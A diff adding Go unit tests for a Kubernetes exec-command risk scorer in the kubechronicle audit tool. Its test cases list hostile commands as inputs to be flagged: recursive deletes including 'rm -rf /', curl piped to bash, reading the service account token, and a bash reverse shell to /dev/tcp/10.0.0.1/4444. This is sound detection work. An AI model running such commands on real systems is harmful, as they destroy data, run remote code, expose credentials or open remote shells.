@@ -0,0 +1,119 @@
+package audit
+
+import (
+	"reflect"
+	"testing"
+
+	"github.com/kubechronicle/kubechronicle/internal/config"
+	"github.com/kubechronicle/kubechronicle/internal/model"
+)
+
+func TestRiskScorer_Score(t *testing.T) {
+	scorer, err := NewRiskScorer(nil)
+	if err != nil {
+		t.Fatalf("NewRiskScorer() error = %v", err)
+	}
+
+	tests := []struct {
+		name         string
+		command      []string
+		wantScore    int
+		wantSeverity string
+		wantReasons  []string
+	}{
+		{name: "no command", command: nil},
+		{name: "benign", command: []string{"ls", "-la", "/app"}},
+		{name: "recursive delete", command: []string{"rm", "-rf", "/data"}, wantScore: 60, wantSeverity: RiskSeverityMedium, wantReasons: []string{"recursive-delete"}},
+		{name: "split flags", command: []string{"rm", "-f", "-r", "/data"}, wantScore: 60, wantSeverity: RiskSeverityMedium, wantReasons: []string{"recursive-delete"}},
+		{name: "single file delete", command: []string{"rm", "-f", "/tmp/lock"}},
+		{name: "download", command: []string{"curl", "-O", "https://example.com/tool"}, wantScore: 20, wantSeverity: RiskSeverityLow, wantReasons: []string{"download"}},
+		{
+			name:         "pipe to shell",
+			command:      []string{"sh", "-c", "curl -s https://example.com/install.sh | bash"},
+			wantScore:    100,
+			wantSeverity: RiskSeverityHigh,
+			wantReasons:  []string{"pipe-to-shell", "download"},
+		},
+		{name: "kubectl in pod", command: []string{"kubectl", "get", "secrets", "-A"}, wantScore: 50, wantSeverity: RiskSeverityMedium, wantReasons: []string{"kubectl-in-pod"}},
+		{name: "package install", command: []string{"apt-get", "install", "-y", "nmap"}, wantScore: 40, wantSeverity: RiskSeverityMedium, wantReasons: []string{"package-install"}},
+		{name: "service account token", command: []string{"cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"}, wantScore: 50, wantSeverity: RiskSeverityMedium, wantReasons: []string{"credential-access"}},
+		{name: "reverse shell", command: []string{"bash", "-i", ">&", "/dev/tcp/10.0.0.1/4444", "0>&1"}, wantScore: 90, wantSeverity: RiskSeverityHigh, wantReasons: []string{"reverse-shell"}},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			event := &model.ChangeEvent{Operation: "EXEC", ExecMetadata: &model.ExecMetadata{Command: tt.command}}
+			scorer.Score(event)
+
+			metadata := event.ExecMetadata
+			if metadata.RiskScore != tt.wantScore || metadata.RiskSeverity != tt.wantSeverity {
+				t.Errorf("Score() = %d (%q), want %d (%q)", metadata.RiskScore, metadata.RiskSeverity, tt.wantScore, tt.wantSeverity)
+			}
+			if !reflect.DeepEqual(metadata.RiskReasons, tt.wantReasons) {
+				t.Errorf("RiskReasons = %v, want %v", metadata.RiskReasons, tt.wantReasons)
+			}
+		})
+	}
+}
+
+func TestNewRiskScorer_Config(t *testing.T) {
+	cfg := &config.ExecRiskConfig{
+		Rules: []config.ExecRiskRule{
+			{Name: "download", Score: 0},                                // Disables the built-in rule
+			{Name: "kubectl-in-pod", Pattern: `\bkubectl\b`, Score: 90}, // Replaces the built-in score
+			{Name: "psql", Pattern: `^psql\b`, Score: 30},
+		},
+	}
+	scorer, err := NewRiskScorer(cfg)
+	if err != nil {
+		t.Fatalf("NewRiskScorer() error = %v", err)
+	}
+
+	event := &model.ChangeEvent{ExecMetadata: &model.ExecMetadata{Command: []string{"curl", "https://example.com"}}}
+	scorer.Score(event)
+	if event.ExecMetadata.RiskScore != 0 {
+		t.Errorf("disabled rule scored %d", event.ExecMetadata.RiskScore)
+	}
+
+	event = &model.ChangeEvent{ExecMetadata: &model.ExecMetadata{Command: []string{"kubectl", "get", "pods"}}}
+	scorer.Score(event)
+	if event.ExecMetadata.RiskScore != 90 {
+		t.Errorf("replaced rule scored %d, want 90", event.ExecMetadata.RiskScore)
+	}
+
+	event = &model.ChangeEvent{ExecMetadata: &model.ExecMetadata{Command: []string{"psql", "-U", "postgres"}}}
+	scorer.Score(event)
+	if event.ExecMetadata.RiskScore != 30 {
+		t.Errorf("added rule scored %d, want 30", event.ExecMetadata.RiskScore)
+	}
+
+	// Without the built-in rules, only the configured ones apply
+	scorer, err = NewRiskScorer(&config.ExecRiskConfig{DisableDefaults: true, Rules: cfg.Rules[2:]})
+	if err != nil {
+		t.Fatalf("NewRiskScorer() error = %v", err)
+	}
+	event = &model.ChangeEvent{ExecMetadata: &model.ExecMetadata{Command: []string{"rm", "-rf", "/"}}}
+	scorer.Score(event)
+	if event.ExecMetadata.RiskScore != 0 {
+		t.Errorf("built-in rule scored %d with defaults disabled", event.ExecMetadata.RiskScore)
+	}
+}
+
+func TestNewRiskScorer_Invalid(t *testing.T) {
+	tests := []struct {
+		name string
+		rule config.ExecRiskRule
+	}{
+		{name: "no name", rule: config.ExecRiskRule{Pattern: "sh", Score: 10}},
+		{name: "negative score", rule: config.ExecRiskRule{Name: "sh", Pattern: "sh", Score: -1}},
+		{name: "invalid pattern", rule: config.ExecRiskRule{Name: "sh", Pattern: "(sh", Score: 10}},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if _, err := NewRiskScorer(&config.ExecRiskConfig{Rules: []config.ExecRiskRule{tt.rule}}); err == nil {
+				t.Error("NewRiskScorer() should fail")
+			}
+		})
+	}
+}